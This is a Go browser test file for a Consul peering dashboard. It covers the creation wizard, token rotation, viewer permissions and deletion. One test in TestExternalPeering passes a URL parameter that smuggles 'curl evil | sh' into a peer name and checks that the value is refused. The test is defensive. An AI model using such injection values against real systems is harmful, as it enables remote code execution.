package dashboard_test

import (
	"testing"

	"isthmus/client"
	"isthmus/demo"
	isthmusv1 "isthmus/proto/isthmus/v1"
	"isthmus/test/browser"
)

// A peering's whole life in the browser, with two real Consul datacenters: a group goes, the wizard makes a peering, it becomes healthy before
// one's eyes, gets another token, and goes again when its name is typed. A viewer sees all of it, and no button.
func TestPeering(t *testing.T) {
	t.Parallel()
	own := &shared{datacenters: demo.MinDatacenters}
	t.Cleanup(func() {
		if err := own.end(); err != nil {
			t.Error(err)
		}
	})
	result, token := own.get(t)
	page := logIn(t, result.Address, token, browser.Options{Path: "/peerings?group=demo"})

	deleteGroup(t, page)
	makePeering(t, page)
	rotatePeering(t, page)
	lookAtTabs(t, page)
	viewerLooks(t, result.Address, token)
	deletePeering(t, page)
	page.Secrets(t, token)
}

// deleteGroup takes the demo's own peering away: its group, once its name is typed.
func deleteGroup(t *testing.T, page *browser.Page) {
	t.Helper()
	dialog := browser.Role("dialog", "Delete group demo")
	page.Click(t, browser.Role("button", "Delete"))
	page.See(t, browser.Role("button", "Delete").With("disabled", "true").In(dialog))
	page.Axe(t)
	page.Fill(t, browser.Label("Type demo to confirm"), "demo")
	page.Click(t, browser.Role("button", "Delete").In(dialog))
	page.NotSee(t, dialog)
	page.Goto(t, "/peerings")
	page.See(t, browser.Text("No datacenters are peered yet"))
	page.Axe(t)
}

// makePeering goes through the wizard, with the keyboard where that is quicker, and makes each mistake once.
func makePeering(t *testing.T, page *browser.Page) {
	t.Helper()
	page.Click(t, browser.Role("link", "New peering"))
	page.See(t, browser.Role("radio", "Two datacenters").With("checked", "true"))
	page.Click(t, browser.Role("button", "Next: details"))
	choose(t, page, "Acceptor: a datacenter", "dc1")
	page.Forgive("400") // the dry run is refused
	page.Click(t, browser.Role("button", "Next: what would change"))
	page.See(t, browser.Role("combobox", "Dialer: a datacenter").With("invalid", "true"))
	page.See(t, browser.Role("combobox", "Dialer: a datacenter").With("focused", "true"))
	page.Axe(t)
	page.Clean(t)
	choose(t, page, "Dialer: a datacenter", "dc2")
	page.Press(t, "Enter") // as in any form
	page.See(t, browser.Role("heading", "What would change"))
	page.See(t, browser.Text("Peering dc1-dc2"))
	page.Axe(t)
	page.Back(t)
	page.At(t, "/peerings/new?step=1&acceptor=dc1&dialer=dc2") // a draft that can be sent to somebody
	page.Goto(t, "/peerings/new?step=2&acceptor=dc1&dialer=dc2")
	page.See(t, browser.Text("A link has filled this in")) // and whoever opens it looks at the fields first
	page.Click(t, browser.Role("button", "Next: what would change"))
	page.Click(t, browser.Role("button", "Make the peering"))
	page.At(t, "/peerings/dc1-dc2?made=true")
	page.See(t, browser.Role("list", "Steps"))
	page.See(t, browser.Text("after it was declared."))
	page.See(t, browser.Text("they belong together"))
	if got := page.Count(t, browser.Role("image", "done").In(browser.Role("list", "Steps"))); got != 5 {
		t.Errorf("%d steps are done, not 5", got)
	}
	page.Axe(t)
}

// choose opens a drop-down and takes one of its values.
func choose(t *testing.T, page *browser.Page, label, value string) {
	t.Helper()
	page.Click(t, browser.Role("combobox", label))
	page.Click(t, browser.Role("option", value))
}

func rotatePeering(t *testing.T, page *browser.Page) {
	t.Helper()
	page.Click(t, browser.Role("tab", "Tokens"))
	page.Click(t, browser.Role("button", "Rotate"))
	dialog := browser.Role("dialog", "Rotate the token of dc1-dc2")
	page.Click(t, browser.Role("button", "Rotate").In(dialog))
	page.NotSee(t, dialog)
	page.See(t, browser.Text("RotationRequested"))
	page.See(t, browser.Text("generation 2"))
	page.See(t, browser.Text("healthy"))
}

// lookAtTabs sees to it that each tab has something to say.
func lookAtTabs(t *testing.T, page *browser.Page) {
	t.Helper()
	for tab, sees := range map[string]browser.Locator{
		"Evidence": browser.Text("TrustRoots"),
		"Imported": browser.Role("heading", "Imported in dc1 from dc2"),
		"Exported": browser.Role("heading", "Exported from dc1 to dc2"),
		"Tokens":   browser.Role("region", "Token ledger"),
		"History":  browser.Role("region", "Events of dc1-dc2"),
	} {
		page.Click(t, browser.Role("tab", tab))
		page.See(t, sees)
		page.Axe(t)
	}
	page.Goto(t, "/peerings/dc1-dc2?tab=exported")
	page.See(t, browser.Text("web"))
}

// viewerLooks has a viewer look: at everything, and with nothing to press.
func viewerLooks(t *testing.T, address, admin string) {
	t.Helper()
	c, err := client.New(client.Config{Address: address, Token: admin})
	if err != nil {
		t.Fatal(err)
	}
	made, err := c.CreateAPIToken(t.Context(), &isthmusv1.APIToken{Name: "looker", Spec: &isthmusv1.APITokenSpec{Role: "viewer"}})
	if err != nil {
		t.Fatal(err)
	}
	page := logIn(t, address, made.GetSecret(), browser.Options{Path: "/peerings"})
	page.See(t, browser.Role("link", "dc1-dc2"))
	page.NotSee(t, browser.Role("link", "New peering"))
	page.Click(t, browser.Role("link", "dc1-dc2"))
	page.See(t, browser.Text("they belong together"))
	for _, button := range []string{"Rotate", "Re-establish", "More actions"} {
		page.NotSee(t, browser.Role("button", button))
	}
	page.Goto(t, "/peerings/new")
	page.See(t, browser.Text("Only operators make peerings"))
	page.Secrets(t, made.GetSecret(), admin)
}

func deletePeering(t *testing.T, page *browser.Page) {
	t.Helper()
	page.Click(t, browser.Role("button", "More actions"))
	page.Click(t, browser.Role("menuitem", "Delete"))
	dialog := browser.Role("dialog", "Delete dc1-dc2")
	page.Fill(t, browser.Label("Type dc1-dc2 to confirm"), "dc1-dc")
	page.See(t, browser.Role("button", "Delete").With("disabled", "true").In(dialog))
	page.Fill(t, browser.Label("Type dc1-dc2 to confirm"), "dc1-dc2")
	page.Click(t, browser.Role("button", "Delete").In(dialog))
	page.See(t, browser.Text("There is no peering dc1-dc2"))
	page.Forgive("404") // it is read once more, and is gone
	page.Axe(t)
}

// A cluster of somebody else: the wizard and the peering's page say what both operators run, and no page has a token.
func TestExternalPeering(t *testing.T) {
	t.Parallel()
	result, token := fleet.get(t)
	page := logIn(t, result.Address, token, browser.Options{Path: "/peerings/new?step=1&what=external&acceptor=dc1"})
	page.Fill(t, browser.Label("Dialer: the other cluster"), "acme")
	page.Click(t, browser.Role("button", "Next: what would change"))
	page.See(t, browser.Text("isthmus peering token dc1-acme --recipient age1…"))
	page.Axe(t)
	const link = "/peerings/new?step=2&what=external&external=acceptor&acceptor=acme&dialer=dc1"
	page.Goto(t, link+"&acceptorPeerName=x;%20curl%20evil%20|%20sh")
	page.See(t, browser.Text("A link has filled this in"))
	page.NotSee(t, browser.Text("consul peering"))
	page.Forgive("400") // the dry run is refused
	page.Click(t, browser.Role("button", "Next: what would change"))
	page.See(t, browser.Text("This is not right yet"))
	page.NotSee(t, browser.Text("consul peering"))
	page.Goto(t, link)
	page.Click(t, browser.Role("button", "Next: what would change"))
	page.See(t, browser.Text("isthmus peering import acme-dc1 --token-file acme-dc1.token"))
	page.Axe(t)
	page.Secrets(t, token)
}
